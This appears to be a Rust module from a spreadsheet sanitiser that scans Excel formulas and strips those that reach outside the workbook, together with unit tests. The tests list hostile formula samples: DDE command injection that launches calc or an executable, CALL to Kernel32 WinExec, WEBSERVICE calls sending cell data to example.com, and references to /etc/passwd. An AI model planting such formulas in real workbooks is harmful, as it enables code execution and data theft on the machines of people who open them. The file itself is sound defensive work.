//! Formulas: which may stay (ECMA-376 Part 1, 18.17).
//!
//! A formula stays if it is made of operators, constants, references into this workbook, and functions that only
//! compute. Anything that reaches out (another workbook, DDE, the network, add-ins, macros) or that cannot be told with
//! certainty makes it go; the value it last had stays in the cell.

use super::functions;
use std::collections::BTreeSet;

/// Longer than Excel takes.
const MAX: usize = 8192;

/// Names and sheets that are gone, in lower case: what refers to them goes too.
#[derive(Clone, Debug, Default)]
pub(super) struct Gone {
    /// Defined names.
    pub(super) names: BTreeSet<String>,
    /// Sheets.
    pub(super) sheets: BTreeSet<String>,
}

impl Gone {
    /// Whether `formula` may stay.
    pub(super) fn allows(&self, formula: &str) -> bool {
        let computes = computes_references(formula);
        let scanner = Scanner { rest: formula, gone: self, behind: Behind::Nothing, computes };
        formula.len() <= MAX && !writes_hidden(formula) && scanner.scan()
    }
}

/// Reads a formula from left to right.
struct Scanner<'a> {
    rest: &'a str,
    gone: &'a Gone,
    behind: Behind,
    /// Whether a reference is made from text somewhere in it.
    computes: bool,
}

/// What stands in front of the next character, white space aside: it tells a call from a group. Programs take white
/// space between a function and its bracket (18.17.2.1), and call what an expression in brackets yields.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Behind {
    /// An operator, a separator, an opening bracket, or the start: a bracket opens a group.
    Nothing,
    /// A function that only computes: a bracket opens what it is given.
    Function,
    /// Anything else that yields something: a bracket would call it.
    Value,
}

impl Scanner<'_> {
    fn scan(mut self) -> bool {
        while let Some(first) = self.rest.chars().next() {
            let good = match first {
                '"' => self.string(),
                '\'' => self.quoted_sheet(),
                '[' => self.brackets(),
                '#' => self.error_or_spill(),
                '0'..='9' | '.' => self.number(),
                // `A1|B` is DDE, `!` alone refers to the active sheet of another application's workbook.
                '|' | '!' | '`' | '~' | '?' | '\\' => false,
                '(' if self.behind == Behind::Value => false,
                '+' | '-' | '*' | '/' | '^' | '&' | '=' | '<' | '>' | '(' | ')' | ',' | ';' | ':' | '{' | '}' | '%' | '@'
                | ' ' | '\t' | '\n' | '\r' => self.skip(first.len_utf8()),
                '$' => self.skip(1),
                c if is_name_start(c) => self.name(),
                _ => false,
            };
            if !good {
                return false;
            }
            self.behind = match first {
                ' ' | '\t' | '\n' | '\r' => self.behind,
                '+' | '-' | '*' | '/' | '^' | '&' | '=' | '<' | '>' | '(' | ',' | ';' | ':' | '{' | '@' => Behind::Nothing,
                // Set where the name is read.
                c if is_name_start(c) => self.behind,
                _ => Behind::Value,
            };
        }
        true
    }

    fn skip(&mut self, count: usize) -> bool {
        self.rest = self.rest.get(count..).unwrap_or_default();
        true
    }

    /// `"text"`, with `""` for a quote.
    fn string(&mut self) -> bool {
        self.quoted('"').is_some_and(|text| !self.computes || !names_outside(&text))
    }

    /// `'Sheet name'!`, with `''` for an apostrophe. A bracket or a separator in it names another workbook.
    fn quoted_sheet(&mut self) -> bool {
        let Some(name) = self.quoted('\'') else { return false };
        let Some(rest) = self.rest.strip_prefix('!') else { return false };
        self.rest = rest;
        self.is_own_sheet(&name)
    }

    /// One sheet, or a range of sheets.
    fn is_own_sheet(&self, name: &str) -> bool {
        !name.contains(['[', ']', '\\', '/', '?', '*', '|'])
            && name.split(':').all(|sheet| !sheet.is_empty() && !self.gone.sheets.contains(&sheet.to_lowercase()))
    }

    /// What stands between two of `quote`, doubled ones being text.
    fn quoted(&mut self, quote: char) -> Option<String> {
        let mut text = String::new();
        let mut rest = self.rest.strip_prefix(quote)?;
        loop {
            let (plain, after) = rest.split_once(quote)?;
            text.push_str(plain);
            if let Some(more) = after.strip_prefix(quote) {
                text.push(quote);
                rest = more;
            } else {
                self.rest = after;
                return Some(text);
            }
        }
    }

    /// A structured reference: `[Column]`, `[@Column]`, `[[#All],[Column]]`. What looks like one but is followed by a
    /// sheet's name, as in `[1]Sheet1!A1`, leads to another workbook.
    fn brackets(&mut self) -> bool {
        let mut depth = 0_usize;
        let mut escaped = false;
        for (at, c) in self.rest.char_indices() {
            if std::mem::take(&mut escaped) {
                continue;
            }
            match c {
                // An apostrophe escapes the character behind it (18.17.6.2.1).
                '\'' => escaped = true,
                '[' => depth = depth.saturating_add(1),
                ']' => depth = depth.saturating_sub(1),
                _ => {}
            }
            if depth == 0 {
                self.skip(at.saturating_add(1));
                return !self.rest.starts_with(|c: char| is_name_start(c) || matches!(c, '!' | '\'' | '$' | '[' | '0'..='9'));
            }
        }
        false
    }

    /// An error value, or the `#` behind a reference that spills.
    fn error_or_spill(&mut self) -> bool {
        const ERRORS: &[&str] = &[
            "#BLOCKED!",
            "#BUSY!",
            "#CALC!",
            "#CONNECT!",
            "#DIV/0!",
            "#FIELD!",
            "#GETTING_DATA",
            "#N/A",
            "#NAME?",
            "#NULL!",
            "#NUM!",
            "#REF!",
            "#SPILL!",
            "#UNKNOWN!",
            "#VALUE!",
        ];
        let error = ERRORS.iter().find(|error| self.rest.starts_with(**error)).map_or(1, |error| error.len());
        self.skip(error)
    }

    /// A number, or the digits of a reference or of a range of rows.
    fn number(&mut self) -> bool {
        let digits = self.rest.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.');
        let exponent = digits.strip_prefix(['e', 'E']).map(|rest| rest.strip_prefix(['+', '-']).unwrap_or(rest));
        self.rest = match exponent.filter(|rest| rest.starts_with(|c: char| c.is_ascii_digit())) {
            Some(rest) => rest.trim_start_matches(|c: char| c.is_ascii_digit()),
            None => digits,
        };
        // `1Sheet!A1`: a sheet's name that begins with a digit has to be quoted.
        !self.rest.starts_with(|c: char| is_name_start(c) || c == '!')
    }

    /// A function, a sheet, a reference, a defined name or a table.
    fn name(&mut self) -> bool {
        let end = self.rest.find(|c: char| !is_name(c)).unwrap_or(self.rest.len());
        let (name, rest) = self.rest.split_at_checked(end).unwrap_or((self.rest, ""));
        self.rest = rest;
        self.behind = Behind::Value;
        if rest.trim_start_matches([' ', '\t', '\n', '\r']).starts_with('(') {
            self.behind = Behind::Function;
            return functions::is_pure(name);
        }
        if let Some(rest) = rest.strip_prefix('!') {
            self.rest = rest;
            return self.is_own_sheet(name);
        }
        if let Some((last, rest)) = sheet_range(rest) {
            self.rest = rest;
            return self.is_own_sheet(name) && self.is_own_sheet(last);
        }
        if rest.starts_with('[') {
            return self.table();
        }
        !functions::reaches_uncalled(name) && !self.gone.names.contains(&name.to_lowercase())
    }

    /// The brackets behind a table's name.
    fn table(&mut self) -> bool {
        self.brackets()
    }
}

/// The second sheet of `First:Last!A1`, and what follows the `!`.
fn sheet_range(rest: &str) -> Option<(&str, &str)> {
    let rest = rest.strip_prefix(':')?;
    let end = rest.find(|c: char| !is_name(c))?;
    let (name, rest) = rest.split_at_checked(end)?;
    Some((name, rest.strip_prefix('!')?)).filter(|_| name.starts_with(is_name_start))
}

/// Whether characters are written as `_xHHHH_` (22.9.2.19), except line ends and the underscore itself: a reader that
/// takes the escapes of strings for what they stand for in formulas sees another formula than the one judged here.
fn writes_hidden(formula: &str) -> bool {
    formula.match_indices("_x").any(|(at, _)| {
        let code = formula.get(at.saturating_add(2)..at.saturating_add(6)).unwrap_or_default();
        let closed = formula.get(at.saturating_add(6)..).is_some_and(|rest| rest.starts_with('_'));
        let digits = code.len() == 4 && code.bytes().all(|digit| digit.is_ascii_hexdigit());
        closed && digits && !["0009", "000a", "000d", "005f"].contains(&code.to_ascii_lowercase().as_str())
    })
}

/// Whether a formula makes a reference from text.
fn computes_references(formula: &str) -> bool {
    formula.to_ascii_uppercase().contains("INDIRECT")
}

/// Whether a constant text names something outside of this workbook: a path, a scheme, DDE, or a workbook in brackets
/// in front of a sheet. Brackets behind the name of a table stay, lists that depend on another list use them.
fn names_outside(text: &str) -> bool {
    let sheet_behind = |(at, _): (usize, &str)| {
        text.get(at.saturating_add(1)..).is_some_and(|rest| rest.starts_with(|c: char| is_name(c) || c == '!'))
    };
    ["|", "\\", ":/", "//", "#$", "'[", "'#", "'file"].iter().any(|mark| text.contains(mark))
        || text.match_indices(']').any(sheet_behind)
}

fn is_name_start(c: char) -> bool {
    c.is_alphabetic() || c == '_' || (!c.is_ascii() && !c.is_whitespace() && !c.is_control())
}

fn is_name(c: char) -> bool {
    is_name_start(c) || c.is_ascii_digit() || matches!(c, '.' | '$')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_only_compute_stay() {
        let gone = Gone::default();
        for formula in [
            "SUM(A1:B2)*1.08",
            "IF($A$1>=10,\"a\"\"|b\",'表 ''1'''!C3)",
            "VLOOKUP(A1,Sheet2!$A:$D,2,FALSE)",
            "_xlfn.XLOOKUP(A1,B:B,C:C)",
            "_xlfn._xlws.FILTER(A1:A9,B1:B9>0)",
            "SUM(Sheet1:Sheet3!A1)",
            "SUM('1月:12月'!A1)",
            "Table1[[#This Row],[金額]]*2",
            "SUM(Table1[a'[b])",
            "[@金額]+1",
            "合計*2",
            "TEXT(A1,\"ggge年m月d日\")",
            "1E+3%",
            "A1#",
            "IFERROR(1/0,#N/A)",
            "{1,2;3,4}",
            "SUM(1:3)",
            "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
            "@A1:A3",
            "-A1^2&\"円\"",
            "SUM (A1,(B1))",
            "IF(A1=1,\n  (A1+B1),\n  MAX\t(C1:C2))",
            "(1+2)*(3+4)",
            "INDIRECT($A$2)",
            "INDIRECT(\"表1[\"&B1&\"]\")",
            "SUM(INDIRECT(\"'\"&A1&\"月'!B2:B9\"))",
            "INDIRECT(\"'4月'!B2\")",
            "SUBSTITUTE(A1,\"_x000D_\",\"\")",
            "HYPERLINKS+1",
        ] {
            assert!(gone.allows(formula), "{formula}");
        }
    }

    #[test]
    fn formulas_that_reach_out_go() {
        let gone = Gone::default();
        for formula in [
            "[1]Sheet1!A1",
            "[1]!Name",
            "'[1]表 1'!A1",
            "'[Book1.xlsx]Sheet1'!A1",
            "'C:\\x\\[b.xls]S'!A1",
            "'\\\\server\\share\\[b.xls]S'!A1",
            "'http://example.com/[b.xlsx]S'!A1",
            "SUM([1]Sheet1:Sheet2!A1)",
            "cmd|'/c calc'!A0",
            "'cmd'|'/c calc'!A0",
            "MSEXCEL|'\\..\\..\\x.exe'!''",
            "WEBSERVICE(\"http://example.com/\"&A1)",
            "HYPERLINK(\"http://example.com\")",
            "IMAGE(\"http://example.com\")",
            "RTD(\"x\",,\"y\")",
            "CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
            "REGISTER.ID(\"a\",\"b\")",
            "EXEC(\"calc\")",
            "_xll.Evil()",
            "_xlfn.STOCKHISTORY(A1)",
            "_xlfn._xlws.PY(1,0)",
            "CUBEVALUE(\"x\")",
            "MyFunction(1)",
            "WEBSERVICE (\"http://example.com\")",
            "_xlfn.WEBSERVICE (\"http://example.com\")",
            "HYPERLINK  (\"file:///c:/x\",\"x\")",
            "DDE (\"soffice\",\"/etc/passwd\",\"a\")",
            "CALL\t(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
            "IMAGE\r\n(\"http://example.com\")",
            "webService\n(\"http://example.com\")",
            "(WEBSERVICE)(\"http://example.com\")",
            "((WEBSERVICE)) (\"http://example.com\")",
            "SUM(1,WEBSERVICE (\"http://example.com\"))",
            "SUM (1)(\"x\")",
            "\"WEBSERVICE\"(\"x\")",
            "Sheet1!(\"x\")",
            "A1:WEBSERVICE (\"x\")",
            "_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f(\"http://example.com\"))",
            "_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)",
            "WEBSERVICE_x0028_\"http://example.com\")",
            "\"_x0022_&WEBSERVICE(\"",
            "INDIRECT(\"[http://example.com/x.xlsx]S!A1\")",
            "INDIRECT(\"'file:///etc/passwd'#$S.A1\")",
            "INDIRECT (\"[b.xlsx]S!A1\")",
            "INDIRECT(\"'\\\\host\\share\\[b.xlsx]S'!A1\")",
            "INDIRECT(\"'[\"&A1&\"]S'!A1\")",
            "\"open",
            "'open",
            "A1\u{0}",
            "?",
        ] {
            assert!(!gone.allows(formula), "{formula}");
        }
    }

    #[test]
    fn what_refers_to_something_gone_goes() {
        let gone = Gone { names: BTreeSet::from(["auto_open".to_owned()]), sheets: BTreeSet::from(["macro1".to_owned()]) };
        for formula in ["Auto_Open+1", "Macro1!A1", "'Macro1'!A1", "SUM(Sheet1:Macro1!A1)", "'Sheet1:MACRO1'!A1"] {
            assert!(!gone.allows(formula), "{formula}");
        }
        assert!(gone.allows("\"Macro1!\"&Auto"));
    }
}
